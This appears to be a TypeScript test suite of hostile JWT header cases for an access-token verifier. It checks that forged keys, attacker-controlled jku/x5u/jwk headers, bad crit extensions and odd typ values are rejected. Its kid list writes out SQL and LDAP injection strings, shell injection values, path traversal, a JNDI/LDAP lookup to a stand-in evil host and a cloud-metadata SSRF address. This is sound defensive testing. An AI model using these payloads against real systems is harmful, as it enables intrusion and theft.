import { craftToken, goodClaims } from "../support/tokens.ts";
import { DETAIL, type HostileCase, invalid, passes } from "./hostile-case.ts";
import {
  edKey,
  evilEdKey,
  evilKey,
  evilRsKey,
  foreign,
  nextKey,
  own,
  psKey,
  rsKey,
  shared,
} from "./issuers.ts";

const RSA = "https://rsa.example";
const ED = "https://ed.example";
const EC_HEADER = { alg: "ES256", typ: "at+jwt", kid: "own-1" };

const kids: readonly unknown[] = [
  ...[
    "own-3",
    "OWN-1",
    "own-1 ",
    " own-1",
    "own-1\0",
    "own-1\n",
    "own-1,own-2",
    "own-*",
    "own-1/../own-1",
    "rs-1",
    "ed-1",
  ],
  ...["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "undefined", "null", "0", "-1"],
  ...[
    "../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "file:///etc/passwd",
    "C:\\keys",
  ],
  ...[
    "' OR '1'='1",
    "own-1' UNION SELECT 'key';--",
    "own-1; DROP TABLE keys",
    "1 OR 1=1",
    "*)(kid=*",
    "own-1)(|(a=b",
  ],
  ...[
    "https://evil.example/jwks.json",
    "http://169.254.169.254/latest",
    "data:application/json,{}",
    "javascript:alert(1)",
  ],
  ...[
    "$(id)",
    "`id`",
    "| id",
    "own-1 && id",
    "%00",
    "%2e%2e%2f",
    "\u0024{jndi:ldap://evil.example/a}",
    "{{7*7}}",
  ],
  ...["\u043ewn-1", "own\u20111", "k".repeat(3000)],
];

const badKids: readonly unknown[] = [null, true, {}, [], ["own-1"], { kid: "own-1" }];

const untrustedKeys: Readonly<Record<string, Record<string, unknown>>> = {
  jwk: { jwk: evilKey.jwk },
  "jwk with the private key": { jwk: evilKey.privateKey.export({ format: "jwk" }) },
  "jwk without kid": { jwk: { ...evilKey.jwk, kid: undefined } },
  jku: { jku: "https://evil.example/jwks.json" },
  "jku at the issuer": { jku: "https://issuer.example@evil.example/jwks.json" },
  "jku in the clear": { jku: "http://127.0.0.1:1/jwks.json" },
  "jku as a file": { jku: "file:///etc/passwd" },
  x5u: { x5u: "https://evil.example/cert.pem" },
  x5c: { x5c: ["MIIBszCCAVmgAwIBAgIU"] },
  x5t: { x5t: "AAAAAAAAAAAAAAAAAAAAAAAAAAA", "x5t#S256": "A".repeat(43) },
  "all of them": {
    jwk: evilKey.jwk,
    jku: "https://evil.example",
    x5u: "https://evil.example",
    x5c: ["MII="],
  },
};

const extensions: readonly Record<string, unknown>[] = [
  { crit: [] },
  { crit: ["exp"], exp: 1 },
  { crit: ["alg"] },
  { crit: ["b64"] },
  { crit: ["b64"], b64: false },
  { crit: ["b64"], b64: true },
  { crit: ["unknown"] },
  { crit: ["unknown"], unknown: true },
  { crit: ["unknown", "unknown"], unknown: true },
  { crit: "exp" },
  { crit: null },
  { crit: true },
  { crit: {} },
  { crit: [1] },
  { crit: [""] },
  { crit: ["__proto__"] },
  { b64: false },
  { b64: true },
  { cty: "JWE" },
  { cty: ["JWT"] },
  { cty: "application/json" },
  { enc: "A256GCM" },
  { enc: "none" },
  { zip: "DEF" },
];

const types: readonly unknown[] = [
  ...[
    "JWT",
    "jwt",
    "application/jwt",
    "id+jwt",
    "rt+jwt",
    "dpop+jwt",
    "logout+jwt",
    "secevent+jwt",
    "oauth-authz-req+jwt",
  ],
  ...[
    "client-authentication+jwt",
    "at",
    "jwt+at",
    "at+jwt ",
    " at+jwt",
    "at+jwt;",
    "at+jwt; charset=utf-8",
    "at%2Bjwt",
  ],
  ...[
    "text/at+jwt",
    "application/application/at+jwt",
    "application/",
    "",
    "at+jwt\0",
    "\u0430t+jwt",
    "JOSE",
    "JOSE+JSON",
  ],
  ...[null, 7, true, {}, ["at+jwt"], undefined],
];

/** What the header of a token says. */
export const headerCases: readonly HostileCase[] = [
  ...kids.map((kid) => invalid(`kid ${JSON.stringify(kid).slice(0, 40)}`, own({}, { kid }), DETAIL.key)),
  ...badKids.map((kid) => invalid(`kid ${JSON.stringify(kid)}`, own({}, { kid }), DETAIL.kid)),
  invalid("kid 7", own({}, { kid: 7 }), DETAIL.key),
  invalid(
    "no kid, signed with a key of the attacker",
    craftToken({ ...EC_HEADER, kid: undefined }, goodClaims(), evilKey.sign),
    DETAIL.signature,
  ),
  invalid("the kid of the issuer's other key", own({}, { kid: "own-2" }), DETAIL.signature),
  ...Object.entries(untrustedKeys).flatMap(([name, header]) => [
    invalid(
      `${name} of the attacker, signed by them`,
      craftToken({ ...EC_HEADER, ...header }, goodClaims(), evilKey.sign),
      DETAIL.signature,
    ),
    passes(`${name} of the attacker, signed by the issuer`, own({}, header)),
  ]),
  ...extensions.map((header) =>
    invalid(`header ${JSON.stringify(header)}`, own({}, header), DETAIL.extension),
  ),
  ...types.map((typ) => invalid(`typ ${JSON.stringify(typ)}`, own({}, { typ }), DETAIL.type)),
  invalid("typ at+jwt for an issuer of typ JWT", foreign(rsKey, RSA), DETAIL.type),
  invalid("a forged key of the issuer of EdDSA", foreign(evilEdKey, ED), DETAIL.signature),
  invalid("a forged key of the issuer of RSA", foreign(evilRsKey, RSA, { typ: "jwt" }), DETAIL.signature),
  ...["at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+JWT"].map((typ) =>
    passes(`typ ${typ}`, own({}, { typ })),
  ),
  passes("the issuer's other key", craftToken({ ...EC_HEADER, kid: "own-2" }, goodClaims(), nextKey.sign)),
  passes("no kid where the issuer has two keys: both are tried", own({}, { kid: undefined })),
  passes(
    "no kid, signed with the other of two keys",
    craftToken({ ...EC_HEADER, kid: "" }, goodClaims(), nextKey.sign),
  ),
  passes("EdDSA", foreign(edKey, ED)),
  passes("RS256", foreign(rsKey, RSA, { typ: "JWT" })),
  passes("PS256", foreign(psKey, RSA, { typ: "JWT" })),
  passes("HS256 with the shared secret", shared()),
  passes("an unknown member of the header", own({}, { unknown: { a: 1 } })),
];
